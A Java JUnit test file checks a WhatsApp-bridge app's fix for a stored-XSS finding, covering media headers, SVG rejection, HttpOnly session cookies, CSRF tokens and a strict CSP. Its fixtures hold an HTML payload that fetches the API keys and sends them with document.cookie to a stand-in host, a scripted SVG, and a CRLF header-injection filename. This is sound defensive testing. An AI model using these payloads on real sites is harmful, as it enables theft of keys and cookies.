package dev.wabridge.security;

import dev.wabridge.config.Tuning;
import dev.wabridge.sandbox.SandboxPlugin;
import static org.assertj.core.api.Assertions.assertThat;

import dev.wabridge.support.Json;
import dev.wabridge.config.Config;
import dev.wabridge.config.SecretBox;
import dev.wabridge.media.MediaStore;
import dev.wabridge.auth.SessionStore;
import dev.wabridge.db.Housekeeper;
import dev.wabridge.testing.Await;
import dev.wabridge.testing.FakeServer;
import dev.wabridge.testing.FakeServer.Request;
import dev.wabridge.testing.FakeServer.Response;
import dev.wabridge.testing.Meta;
import dev.wabridge.testing.MutableClock;
import dev.wabridge.testing.TestApp;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * Issue 11, finding 1: "Stored XSS on wabridge's own origin steals the admin key". Media served inline with the type
 * its sender declared, no CSP, and the API key in the pages' localStorage. Over real HTTP: media can never be a page
 * on wabridge's origin, inbound types are sniffed, the sandbox takes only raster photos, the pages sign in with an
 * HttpOnly session cookie guarded by a CSRF token, and the pages carry a strict CSP.
 */
class WebSecurityTest {
  static final String PNID = "7788990011";
  static final String SECRET = "web-security-secret";
  static final byte[] PNG = png();
  static final byte[] HTML = "<html><body><script>fetch('/api/keys').then(r => r.text()).then(t => "
      .concat("new Image().src = 'http://127.0.0.1:9/?' + t + document.cookie)</script></body></html>")
      .getBytes(StandardCharsets.UTF_8);
  static final byte[] SVG = ("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('/api/keys')\">"
      + "<script>alert(document.cookie)</script></svg>").getBytes(StandardCharsets.UTF_8);
  static final String CSP_SANDBOX = "default-src 'none'; sandbox";
  static final Duration WAIT = Duration.ofSeconds(20);

  static final MutableClock clock = new MutableClock(Instant.now());
  static FakeServer graph;
  static FakeServer agent;
  static TestApp app;
  static MediaStore media;

  static byte[] png() {
    byte[] b = new byte[200];
    byte[] sig = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A};
    System.arraycopy(sig, 0, b, 0, sig.length);
    return b;
  }

  @BeforeAll
  static void start() {
    graph = new FakeServer(WebSecurityTest::graph);
    agent = new FakeServer(r -> new Response(204, null, null));
    app = new TestApp(new TestApp.Setup(false, graph.url(), clock, Map.of("WABRIDGE_SANDBOX", "true")));
    String numberId = app.api("POST", "/api/numbers", "{\"phone_number_id\":\"" + PNID + "\",\"display_phone_number\":"
        + "\"+1 555\",\"access_token\":\"web-token\",\"app_secret\":\"" + SECRET + "\",\"verify_token\":\"v\"}")
        .json().get("id").asString();
    String agentId = app.api("POST", "/api/agents", "{\"name\":\"W\",\"webhook_url\":\"" + agent.url()
        + "\",\"number_id\":\"" + numberId + "\"}").json().get("id").asString();
    app.api("POST", "/api/agents/" + agentId + "/deploy", null);
    Config c = app.app().config();
    media = new MediaStore(app.app().database(), c.dataDir(), SecretBox.load(c.secretKey(), c.dataDir()),
        c.mediaUrl(), clock, c.tuning().mediaLinkValidity());
  }

  @AfterAll
  static void stop() {
    app.close();
    graph.close();
    agent.close();
  }

  /** Meta's media: the id names the bytes the customer sent ({@code png…}, {@code svg…}, else a web page). */
  static Response graph(Request r) {
    String id = r.path().substring(r.path().lastIndexOf('/') + 1);
    if (r.method().equals("GET") && r.path().startsWith("/lookaside/")) {
      return new Response(200, "application/octet-stream", id.startsWith("png") ? PNG : id.startsWith("svg") ? SVG
          : HTML);
    }
    if (r.method().equals("GET")) {
      return Response.json(200, "{\"url\":\"" + graph.url() + "/lookaside/" + id + "\",\"mime_type\":"
          + "\"application/octet-stream\",\"id\":\"" + id + "\"}");
    }
    return Response.json(200, "{\"messages\":[{\"id\":\"wamid.W" + System.nanoTime() + "\"}]}");
  }

  // ---------- media: finding 1, bytes served inline with the type the customer or tenant declared ----------

  @Test
  void aRasterImageIsServedInlineAndEvenThenCannotRunScript() {
    HttpResponse<byte[]> r = get(media.signedUrl(media.put("default", PNG, "image/png", "cat.png").id()));
    assertThat(r.statusCode()).isEqualTo(200);
    assertThat(r.headers().firstValue("Content-Type")).hasValue("image/png");
    assertThat(r.headers().firstValue("Content-Disposition")).hasValue("inline; filename=\"cat.png\"");
    assertThat(r.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(r.headers().firstValue("Content-Security-Policy")).hasValue(CSP_SANDBOX);
    assertThat(r.body()).isEqualTo(PNG);
  }

  /** Rows stored before the fix kept whatever type was declared: the route must not trust them either. */
  @Test
  void markupScriptAndUnknownFilesAreDownloadsNeverPages() {
    Map<String, byte[]> files = new java.util.LinkedHashMap<>();
    files.put("image/svg+xml", SVG);
    files.put("text/html; charset=utf-8", HTML);
    files.put("application/xml", "<?xml version=\"1.0\"?><x/>".getBytes(StandardCharsets.UTF_8));
    files.put("application/javascript", "fetch('/api/keys')".getBytes(StandardCharsets.UTF_8));
    files.put("application/x-unknown", new byte[] {1, 2, 3, 4, 5});
    files.put("image/png", HTML); // a "PNG" whose bytes are a web page
    files.put("text/plain", "<script>fetch('/api/keys')</script>".getBytes(StandardCharsets.UTF_8));
    for (var f : files.entrySet()) {
      HttpResponse<byte[]> r = get(media.signedUrl(media.put("default", f.getValue(), f.getKey(), "x.html").id()));
      assertThat(r.statusCode()).as(f.getKey()).isEqualTo(200);
      assertThat(r.headers().firstValue("Content-Type")).as(f.getKey()).hasValue("application/octet-stream");
      assertThat(r.headers().firstValue("Content-Disposition")).as(f.getKey())
          .hasValue("attachment; filename=\"x.html\"");
      assertThat(r.headers().firstValue("X-Content-Type-Options")).as(f.getKey()).hasValue("nosniff");
      assertThat(r.headers().firstValue("Content-Security-Policy")).as(f.getKey()).hasValue(CSP_SANDBOX);
    }
    HttpResponse<byte[]> bad = get(app.url() + "/media/med_x?exp=1&sig=x");
    assertThat(bad.statusCode()).isEqualTo(403);
    assertThat(bad.headers().firstValue("Content-Security-Policy")).hasValue(CSP_SANDBOX);
  }

  @Test
  void aFilenameCannotBreakOutOfContentDisposition() {
    String evil = "a\"; b.html\r\nSet-Cookie: x=1/..\\é.pdf";
    HttpResponse<byte[]> r = get(media.signedUrl(media.put("default", PNG, "image/png", evil).id()));
    assertThat(r.headers().firstValue("Content-Disposition")).hasValue("inline; filename=\"a_; b.html__Set-Cookie: "
        + "x=1_..__.pdf\"; filename*=UTF-8''a_%3B%20b.html__Set-Cookie%3A%20x%3D1_.._%C3%A9.pdf");
    assertThat(r.headers().firstValue("Set-Cookie")).isEmpty();
  }

  /** Finding 1: "inbound media's mime_type is trusted, never sniffed". */
  @Test
  void inboundMediaIsStoredAsWhatItsBytesAreAndTheMismatchIsKept() {
    assertThat(app.webhook(document("wamid.WEB1", "html1", "image/jpeg", "invoice.pdf"), SECRET).status())
        .isEqualTo(200);
    JsonNode m = agentMedia("invoice.pdf");
    assertThat(m.get("mime_type").asString()).isEqualTo("application/octet-stream");
    assertThat(m.get("declared_mime_type").asString()).isEqualTo("image/jpeg");
    HttpResponse<byte[]> r = get(m.get("url").asString());
    assertThat(r.body()).as("the agent still gets the file").isEqualTo(HTML);
    assertThat(r.headers().firstValue("Content-Type")).hasValue("application/octet-stream");
    assertThat(r.headers().firstValue("Content-Disposition")).hasValue("attachment; filename=\"invoice.pdf\"");

    assertThat(app.webhook(document("wamid.WEB2", "png1", "image/png", "cat.png"), SECRET).status()).isEqualTo(200);
    JsonNode ok = agentMedia("cat.png");
    assertThat(ok.get("mime_type").asString()).isEqualTo("image/png");
    assertThat(ok.get("declared_mime_type").isNull()).isTrue();
  }

  /** The media of the agent call for the customer's document named {@code filename}. */
  static JsonNode agentMedia(String filename) {
    return Await.value("the agent is called with " + filename, WAIT, () -> agent.requests().stream()
        .map(r -> Json.parse(r.body()).path("media"))
        .filter(m -> m.isObject() && filename.equals(Json.text(m, "filename"))).findFirst().orElse(null));
  }

  /** An operator may keep customers' files off the pages' origin altogether: every /media link is on that origin. */
  @Test
  void mediaLinksUseTheMediaUrl() {
    FakeServer hook = new FakeServer(r -> new Response(204, null, null));
    try (TestApp other = new TestApp(new TestApp.Setup(false, "http://127.0.0.1:9", clock,
        Map.of("WABRIDGE_SANDBOX", "true", "WABRIDGE_MEDIA_URL", "https://media.example.com")))) {
      String agentId = other.api("POST", "/api/agents", "{\"name\":\"M\",\"webhook_url\":\"" + hook.url() + "\"}")
          .json().get("id").asString();
      TestApp.Reply sent = other.request("POST", "/sandbox/api/messages", "{\"agent_id\":\"" + agentId + "\",\"from\":"
          + "\"+15550108888\",\"image_base64\":\"" + Base64.getEncoder().encodeToString(PNG) + "\",\"mime_type\":"
          + "\"image/png\"}", TestApp.ADMIN_KEY, "application/json", Map.of());
      assertThat(sent.status()).as(sent.body()).isEqualTo(202);
      Await.until("the agent is called", WAIT, () -> !hook.requests().isEmpty());
      JsonNode call = Json.parse(hook.requests().getFirst().body());
      assertThat(call.get("image").asString()).startsWith("https://media.example.com/media/med_");
      assertThat(call.get("media").get("url").asString()).startsWith("https://media.example.com/media/med_");
    } finally {
      hook.close();
    }
  }

  /** Finding 1: "the sandbox accepts any image/*, so image/svg+xml passes". */
  @Test
  void theSandboxRefusesAnSvgPhoto() {
    String agentId = sandboxAgent();
    String svg = Base64.getEncoder().encodeToString(SVG);
    TestApp.Reply declared = sandboxWrite(agentId, "\"image_base64\":\"" + svg + "\",\"mime_type\":\"image/svg+xml\"");
    assertThat(declared.status()).isEqualTo(422);
    assertThat(declared.json().get("error").get("code").asString()).isEqualTo("invalid_mime_type");
    TestApp.Reply disguised = sandboxWrite(agentId, "\"image_base64\":\"" + svg + "\",\"mime_type\":\"image/png\"");
    assertThat(disguised.status()).isEqualTo(422);
    assertThat(disguised.json().get("error").get("code").asString()).isEqualTo("invalid_image_base64");
    assertThat(disguised.json().get("error").get("message").asString()).contains("image_base64");
    String png = Base64.getEncoder().encodeToString(PNG);
    assertThat(sandboxWrite(agentId, "\"image_base64\":\"" + png + "\",\"mime_type\":\"image/png\"").status())
        .isEqualTo(202);
  }

  /** Finding 1: "/sandbox/files/{id} serve[s] bytes inline with the Content-Type the tenant declared". */
  @Test
  void sandboxFilesAndTheSimulatedLookasideNeverServeAPage() {
    String agentId = sandboxAgent();
    assertThat(sandboxWrite(agentId, "\"text\":\"hi\"").status()).isEqualTo(202);
    String token = app.app().plugin(SandboxPlugin.class).orElseThrow().sandbox().number().accessToken();
    String pnid = app.app().plugin(SandboxPlugin.class).orElseThrow().sandbox().number().phoneNumberId();
    String mediaId = upload(token, pnid, "text/html", "page.html", HTML);
    // The simulated Graph files a send in the chat of the conversation its biz_opaque_callback_data names.
    String conversation = Await.value("the conversation", WAIT, () -> {
      JsonNode list = app.api("GET", "/api/conversations?agent_id=" + agentId, null).json().get("data");
      return list == null || list.isEmpty() ? null : list.get(0).get("id").asString();
    });
    String messageId = app.api("GET", "/api/conversations/" + conversation + "/messages", null).json().get("data")
        .get(0).get("id").asString();
    TestApp.Reply sent = app.request("POST", "/sandbox/graph/v23.0/" + pnid + "/messages", "{\"messaging_product\":"
        + "\"whatsapp\",\"to\":\"15550109999\",\"type\":\"document\",\"document\":{\"id\":\"" + mediaId + "\"},"
        + "\"biz_opaque_callback_data\":\"" + messageId + "\"}", token, "application/json", Map.of());
    assertThat(sent.status()).as(sent.body()).isEqualTo(200);
    String url = Await.value("the document reaches the phone", WAIT, () -> {
      for (JsonNode b : app.request("GET", "/sandbox/api/messages?agent_id=" + agentId + "&from=%2B15550109999",
          null, TestApp.ADMIN_KEY, null, Map.of()).json().get("data").values()) {
        if (b.get("type").asString().equals("document") && b.get("media").isObject()) {
          return b.get("media").get("url").asString();
        }
      }
      return null;
    });
    HttpResponse<byte[]> file = get(app.url() + url);
    assertThat(file.statusCode()).isEqualTo(200);
    assertThat(file.headers().firstValue("Content-Type")).hasValue("application/octet-stream");
    assertThat(file.headers().firstValue("Content-Disposition")).hasValue("attachment; filename=\"page.html\"");
    assertThat(file.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(file.headers().firstValue("Content-Security-Policy")).hasValue(CSP_SANDBOX);

    TestApp.Reply lookaside = app.request("GET", "/sandbox/graph/lookaside/" + mediaId, null, token, null, Map.of());
    assertThat(lookaside.header("Content-Type")).isEqualTo("application/octet-stream");
    assertThat(lookaside.header("Content-Security-Policy")).isEqualTo(CSP_SANDBOX);
  }

  // ---------- sessions: finding 1, "the console and the sandbox keep the API key in localStorage" ----------

  @Test
  void signingInGivesAnHttpOnlyStrictCookieAndACsrfTokenNeverTheKey() {
    TestApp.Reply r = signIn(TestApp.ADMIN_KEY);
    assertThat(r.status()).as(r.body()).isEqualTo(201);
    String setCookie = r.header("Set-Cookie");
    assertThat(setCookie).matches("wabridge_session=[A-Za-z0-9_-]{43}; Path=/; HttpOnly; SameSite=Strict");
    assertThat(r.header("Cache-Control")).isEqualTo("no-store");
    assertThat(r.header("X-Content-Type-Options")).isEqualTo("nosniff");
    JsonNode body = r.json();
    assertThat(body.get("workspace_id").asString()).isEqualTo("default");
    assertThat(body.get("key_id").asString()).isEqualTo("key_admin");
    assertThat(body.get("key_name").asString()).isEqualTo("admin");
    assertThat(body.get("scope").asString()).isEqualTo("admin");
    assertThat(body.get("csrf_token").asString()).hasSizeGreaterThanOrEqualTo(32);
    assertThat(Instant.parse(body.get("expires_at").asString())).isAfter(clock.instant());
    assertThat(r.body()).doesNotContain(TestApp.ADMIN_KEY);

    String cookie = cookie(r);
    assertThat(withCookie("GET", "/api/agents", null, cookie, null).status()).isEqualTo(200);
    TestApp.Reply again = withCookie("GET", "/api/session", null, cookie, null);
    assertThat(again.status()).isEqualTo(200);
    assertThat(again.json().get("csrf_token").asString()).isEqualTo(body.get("csrf_token").asString());
    assertThat(again.header("Cache-Control")).isEqualTo("no-store");
    assertThat(withCookie("GET", "/sandbox/api/agents", null, cookie, null).status()).isEqualTo(200);
  }

  @Test
  void aWrongKeyIsTheSame401WhateverExists() {
    TestApp.Reply wrong = signIn("wab_not_a_key_at_all_00000000000000");
    TestApp.Reply empty = signIn("x");
    assertThat(wrong.status()).isEqualTo(401);
    assertThat(empty.status()).isEqualTo(401);
    assertThat(wrong.body()).isEqualTo(empty.body());
    assertThat(wrong.header("Set-Cookie")).isNull();
    clock.advance(Duration.ofMinutes(16)); // leave no failures behind for the throttle
  }

  @Test
  void theCookieIsSecureWhenThePublicUrlIsHttps() {
    try (TestApp https = new TestApp(new TestApp.Setup(false, "http://127.0.0.1:9", clock,
        Map.of("WABRIDGE_PUBLIC_URL", "https://wabridge.example.com")))) {
      TestApp.Reply r = https.request("POST", "/api/session", "{\"api_key\":\"" + TestApp.ADMIN_KEY + "\"}", null,
          "application/json", Map.of());
      assertThat(r.header("Set-Cookie")).endsWith("; Path=/; HttpOnly; SameSite=Strict; Secure");
    }
  }

  @Test
  void aCookieRequestThatChangesStateNeedsTheCsrfTokenABearerOneDoesNot() {
    TestApp.Reply s = signIn(TestApp.ADMIN_KEY);
    String cookie = cookie(s);
    String csrf = s.json().get("csrf_token").asString();
    String agent = "{\"name\":\"C\",\"webhook_url\":\"https://agent.example.com/hook\"}";
    TestApp.Reply none = withCookie("POST", "/api/agents", agent, cookie, null);
    assertThat(none.status()).isEqualTo(403);
    assertThat(none.json().get("error").get("code").asString()).isEqualTo("csrf_failed");
    assertThat(none.json().get("error").get("message").asString()).contains("X-CSRF-Token").contains("reload");
    assertThat(withCookie("POST", "/api/agents", agent, cookie, csrf + "x").status()).isEqualTo(403);
    assertThat(withCookie("POST", "/sandbox/api/demo-agent", "{}", cookie, null).status()).isEqualTo(403);
    assertThat(withCookie("POST", "/api/agents", agent, cookie, csrf).status()).isEqualTo(201);
    assertThat(app.api("POST", "/api/agents", agent).status()).as("Bearer needs no CSRF token").isEqualTo(201);
  }

  @Test
  void signingOutEndsTheSessionOnTheServer() {
    TestApp.Reply s = signIn(TestApp.ADMIN_KEY);
    String cookie = cookie(s);
    String csrf = s.json().get("csrf_token").asString();
    assertThat(withCookie("DELETE", "/api/session", null, cookie, null).status()).as("no CSRF token").isEqualTo(403);
    assertThat(withCookie("GET", "/api/agents", null, cookie, null).status()).isEqualTo(200);
    TestApp.Reply out = withCookie("DELETE", "/api/session", null, cookie, csrf);
    assertThat(out.status()).isEqualTo(204);
    assertThat(out.header("Set-Cookie")).startsWith("wabridge_session=; Max-Age=0; Path=/; HttpOnly");
    TestApp.Reply after = withCookie("GET", "/api/agents", null, cookie, null);
    assertThat(after.status()).as("the old cookie, replayed").isEqualTo(401);
    assertThat(withCookie("GET", "/api/session", null, cookie, null).status()).isEqualTo(401);
    assertThat(withCookie("DELETE", "/api/session", null, cookie, csrf).status()).as("idempotent").isEqualTo(204);
  }

  @Test
  void deletingTheKeyEndsItsSessionsAtOnce() {
    JsonNode key = app.api("POST", "/api/keys", "{\"name\":\"browser\"}").json();
    TestApp.Reply s = signIn(key.get("key").asString());
    assertThat(s.json().get("key_name").asString()).isEqualTo("browser");
    String cookie = cookie(s);
    assertThat(withCookie("GET", "/api/agents", null, cookie, null).status()).isEqualTo(200);
    assertThat(app.api("DELETE", "/api/keys/" + key.get("id").asString(), null).status()).isEqualTo(204);
    TestApp.Reply after = withCookie("GET", "/api/agents", null, cookie, null);
    assertThat(after.status()).isEqualTo(401);
    assertThat(after.json().get("error").get("message").asString()).contains("deleted");
  }

  @Test
  void aSessionExpiresTwelveHoursAfterLastUseAndSevenDaysAfterSignIn() {
    String idle = cookie(signIn(TestApp.ADMIN_KEY));
    String busy = cookie(signIn(TestApp.ADMIN_KEY));
    for (int day = 0; day < 13; day++) { // used every 11 h: alive until 7 days after sign-in
      clock.advance(Duration.ofHours(11));
      assertThat(withCookie("GET", "/api/agents", null, busy, null).status()).as("after %d h", 11 * (day + 1))
          .isEqualTo(200);
    }
    TestApp.Reply expiredIdle = withCookie("GET", "/api/agents", null, idle, null);
    assertThat(expiredIdle.status()).isEqualTo(401);
    assertThat(expiredIdle.json().get("error").get("code").asString()).isEqualTo("session_expired");
    clock.advance(Duration.ofHours(11)); // 154 h: used within 12 h, under 7 days (168 h)
    assertThat(withCookie("GET", "/api/agents", null, busy, null).status()).isEqualTo(200);
    clock.advance(Duration.ofHours(11)); // 165 h
    assertThat(withCookie("GET", "/api/agents", null, busy, null).status()).isEqualTo(200);
    clock.advance(Duration.ofHours(4)); // 169 h
    TestApp.Reply expired = withCookie("GET", "/api/agents", null, busy, null);
    assertThat(expired.status()).isEqualTo(401);
    assertThat(expired.json().get("error").get("code").asString()).isEqualTo("session_expired");

    new Housekeeper(app.app().database(), clock, Tuning.DEFAULTS.housekeeping(), h -> 0,
        SessionStore::purgeEnded).sweep();
    int dead = app.app().database().jdbi().withHandle(h -> h.createQuery("SELECT COUNT(*) FROM sessions WHERE "
        + "expires_at <= :now").bind("now", clock.millis()).mapTo(Integer.class).one());
    assertThat(dead).as("expired sessions left after the sweep").isZero();
  }

  @Test
  void failedSignInsAreThrottledPerAddress() {
    for (int i = 0; i < 10; i++) {
      assertThat(signIn("wab_guess_" + i).status()).isEqualTo(401);
    }
    TestApp.Reply throttled = signIn(TestApp.ADMIN_KEY);
    assertThat(throttled.status()).isEqualTo(429);
    assertThat(Long.parseLong(throttled.header("Retry-After"))).isBetween(1L, 900L);
    assertThat(throttled.json().get("error").get("code").asString()).isEqualTo("sign_in_throttled");
    clock.advance(Duration.ofMinutes(16));
    assertThat(signIn(TestApp.ADMIN_KEY).status()).isEqualTo(201);
  }

  /** Another site's form cannot sign a browser in to the workspace of its choosing. */
  @Test
  void signInTakesOnlyJsonFromAPageOfThisSite() {
    String body = "{\"api_key\":\"" + TestApp.ADMIN_KEY + "\"}";
    assertThat(app.request("POST", "/api/session", body, null, "text/plain", Map.of()).status()).isEqualTo(415);
    assertThat(app.request("POST", "/api/session", body, null, "application/json", Map.of("Sec-Fetch-Site",
        "cross-site")).status()).isEqualTo(403);
  }

  @Test
  void aSessionHasExactlyItsKeysScope() {
    TestApp.Reply created = app.api("POST", "/api/keys", "{\"name\":\"reader\",\"scope\":\"read\"}");
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    String readKey = created.json().get("key").asString();
    TestApp.Reply s = signIn(readKey);
    assertThat(s.json().get("scope").asString()).isEqualTo("read");
    assertThat(withCookie("GET", "/api/session", null, cookie(s), null).json().get("scope").asString())
        .isEqualTo("read");
    TestApp.Reply change = withCookie("POST", "/api/agents", "{\"name\":\"x\",\"webhook_url\":\"https://a.example\"}",
        cookie(s), s.json().get("csrf_token").asString());
    assertThat(change.status()).as(change.body()).isEqualTo(403);
    assertThat(change.json().get("error").get("code").asString()).isEqualTo("insufficient_scope");
  }

  /** The sessions table and its sweep on PostgreSQL (skipped with a message when no PostgreSQL answers). */
  @Test
  void sessionsWorkOnPostgres() {
    try (TestApp pg = new TestApp(new TestApp.Setup(true, "http://127.0.0.1:9", clock, Map.of()))) {
      TestApp.Reply s = pg.request("POST", "/api/session", "{\"api_key\":\"" + TestApp.ADMIN_KEY + "\"}", null,
          "application/json", Map.of());
      String cookie = cookie(s);
      String csrf = s.json().get("csrf_token").asString();
      Map<String, String> headers = Map.of("Cookie", cookie, "X-CSRF-Token", csrf);
      assertThat(pg.request("POST", "/api/keys", "{\"name\":\"k\"}", null, "application/json", headers).status())
          .isEqualTo(201);
      clock.advance(Duration.ofMinutes(2)); // past the touch interval: last use is written
      assertThat(pg.request("GET", "/api/session", null, null, null, Map.of("Cookie", cookie)).status())
          .isEqualTo(200);
      assertThat(pg.request("DELETE", "/api/session", null, null, null, headers).status()).isEqualTo(204);
      assertThat(pg.request("GET", "/api/agents", null, null, null, Map.of("Cookie", cookie)).status())
          .isEqualTo(401);
      String other = cookie(pg.request("POST", "/api/session", "{\"api_key\":\"" + TestApp.ADMIN_KEY + "\"}", null,
          "application/json", Map.of()));
      clock.advance(Duration.ofHours(13));
      new Housekeeper(pg.app().database(), clock, Tuning.DEFAULTS.housekeeping(), h -> 0,
          SessionStore::purgeEnded).sweep();
      int left = pg.app().database().jdbi().withHandle(h -> h.createQuery("SELECT COUNT(*) FROM sessions")
          .mapTo(Integer.class).one());
      assertThat(left).isZero();
      assertThat(pg.request("GET", "/api/agents", null, null, null, Map.of("Cookie", other)).status()).isEqualTo(401);
    }
  }

  // ---------- pages: a strict CSP, no inline script, security headers on the API ----------

  @Test
  void theConsoleAndTheSandboxPageCarryAStrictCsp() {
    for (String page : List.of("/console", "/console/agents", "/sandbox", "/sandbox/connect/abc")) {
      TestApp.Reply r = app.request("GET", page, null, null, null, Map.of());
      String csp = r.header("Content-Security-Policy");
      assertThat(csp).as(page).contains("default-src 'self'", "script-src 'self'", "style-src 'self'",
          "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'")
          .doesNotContain("unsafe");
      assertThat(r.header("X-Frame-Options")).as(page).isEqualTo("DENY");
      assertThat(r.header("Referrer-Policy")).as(page).isEqualTo("no-referrer");
      assertThat(r.header("X-Content-Type-Options")).as(page).isEqualTo("nosniff");
    }
    assertThat(app.request("GET", "/sandbox", null, null, null, Map.of()).header("Content-Security-Policy"))
        .contains("img-src 'self' data: blob:;");
    assertThat(app.api("GET", "/api/agents", null).header("X-Content-Type-Options")).isEqualTo("nosniff");
  }

  @Test
  void noPageHasInlineScriptOrKeepsTheKeyInStorage() throws IOException {
    Path root = Path.of("src/main/resources/public");
    Pattern script = Pattern.compile("<script\\b([^>]*)>", Pattern.CASE_INSENSITIVE);
    Pattern handler = Pattern.compile("<[^>]*\\s(on[a-z]+|style)\\s*=", Pattern.CASE_INSENSITIVE);
    Pattern markupInJs = Pattern.compile("['\"`]<[^'\"`]*\\s(on[a-z]+|style)=", Pattern.CASE_INSENSITIVE);
    try (Stream<Path> files = Files.walk(root)) {
      for (Path f : files.filter(Files::isRegularFile).toList()) {
        String name = f.toString();
        if (!name.endsWith(".html") && !name.endsWith(".js")) {
          continue;
        }
        String text = Files.readString(f);
        Matcher m = script.matcher(text);
        while (m.find()) {
          assertThat(m.group(1)).as(name + ": every script is a file").contains("src=");
        }
        assertThat((name.endsWith(".html") ? handler : markupInJs).matcher(text).find())
            .as(name + ": no inline event handler or style attribute").isFalse();
        assertThat(text).as(name).doesNotContain("localStorage.setItem(KEY", "localStorage.setItem('wabridge.apiKey'",
            "sessionStorage.setItem('wabridge.apiKey'", "Authorization");
      }
    }
  }

  // ---------- helpers ----------

  /** A customer's document as Meta delivers it, its mime_type as the customer's phone declared it. */
  static String document(String wamid, String mediaId, String declared, String filename) {
    return Meta.envelope(PNID, "\"contacts\":[{\"profile\":{\"name\":\"Eve\"},\"wa_id\":\"15550300\"}],"
        + "\"messages\":[{\"from\":\"15550300\",\"id\":\"" + wamid + "\",\"timestamp\":\"" + clock.millis() / 1000
        + "\",\"type\":\"document\",\"document\":{\"filename\":\"" + filename + "\",\"mime_type\":\"" + declared + "\","
        + "\"sha256\":\"x\",\"id\":\"" + mediaId + "\"}}]");
  }

  static String sandboxAgent() {
    TestApp.Reply a = app.api("POST", "/api/agents", "{\"name\":\"S\",\"webhook_url\":\"" + agent.url() + "\"}");
    assertThat(a.status()).as(a.body()).isEqualTo(201);
    return a.json().get("id").asString();
  }

  static TestApp.Reply sandboxWrite(String agentId, String fields) {
    return app.request("POST", "/sandbox/api/messages", "{\"agent_id\":\"" + agentId + "\",\"from\":\"+15550109999\","
        + fields + "}", TestApp.ADMIN_KEY, "application/json", Map.of());
  }

  static String upload(String token, String pnid, String type, String filename, byte[] bytes) {
    String boundary = "b0undary";
    byte[] head = ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"messaging_product\"\r\n\r\nwhatsapp\r\n"
        + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"type\"\r\n\r\n" + type + "\r\n"
        + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + filename + "\"\r\n"
        + "Content-Type: " + type + "\r\n\r\n").getBytes(StandardCharsets.UTF_8);
    byte[] tail = ("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8);
    byte[] body = new byte[head.length + bytes.length + tail.length];
    System.arraycopy(head, 0, body, 0, head.length);
    System.arraycopy(bytes, 0, body, head.length, bytes.length);
    System.arraycopy(tail, 0, body, head.length + bytes.length, tail.length);
    try {
      HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(app.url()
              + "/sandbox/graph/v23.0/" + pnid + "/media")).header("Authorization", "Bearer " + token)
          .header("Content-Type", "multipart/form-data; boundary=" + boundary)
          .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(), HttpResponse.BodyHandlers.ofString());
      assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
      return Json.parse(r.body()).get("id").asString();
    } catch (IOException | InterruptedException e) {
      throw new IllegalStateException(e);
    }
  }

  static TestApp.Reply signIn(String key) {
    return app.request("POST", "/api/session", "{\"api_key\":\"" + key + "\"}", null, "application/json", Map.of());
  }

  static String cookie(TestApp.Reply signIn) {
    assertThat(signIn.status()).as(signIn.body()).isEqualTo(201);
    String c = signIn.header("Set-Cookie");
    return c.substring(0, c.indexOf(';'));
  }

  static TestApp.Reply withCookie(String method, String path, String body, String cookie, String csrf) {
    Map<String, String> headers = csrf == null ? Map.of("Cookie", cookie) : Map.of("Cookie", cookie, "X-CSRF-Token",
        csrf);
    return app.request(method, path, body, null, body == null ? null : "application/json", headers);
  }

  static HttpResponse<byte[]> get(String url) {
    try {
      return HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(url)).build(),
          HttpResponse.BodyHandlers.ofByteArray());
    } catch (IOException | InterruptedException e) {
      throw new IllegalStateException(e);
    }
  }
}
